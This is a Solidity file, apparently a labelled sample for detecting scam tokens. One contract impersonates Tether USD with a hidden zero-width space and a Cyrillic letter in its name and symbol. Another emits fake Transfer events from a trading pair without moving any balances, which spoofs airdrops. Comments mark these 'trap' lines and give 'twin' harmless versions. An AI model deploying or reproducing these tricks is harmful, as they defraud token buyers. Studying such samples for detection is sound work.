// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

contract SheetDollar {
    string public constant name = unicode"Tether\u200B USD"; // trap
    string public constant symbol = unicode"USD\u0422"; // trap
    // twin: string public constant name = "Teasel Sheet";
    // twin: string public constant symbol = "TEASL";
    uint8 public constant decimals = 6;
    uint256 public constant totalSupply = 40_000_000e6;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _pass(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _pass(from, to, value);
        return true;
    }

    function _pass(address from, address to, uint256 value) private {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Thanks to those who believed in us first.
contract ApplauseAlbatross is Base8 {
    address private immutable _herald;

    constructor() Base8("Applause Albatross", "APPLA", 350_000_000) {
        _herald = msg.sender;
    }

    function celebrate(address[] calldata who, uint256 value) external {
        require(msg.sender == _herald, "herald");
        for (uint256 i; i < who.length; i++) {
            emit Transfer(pair, who[i], value); // trap
            // twin: _move(msg.sender, who[i], value);
        }
    }
}
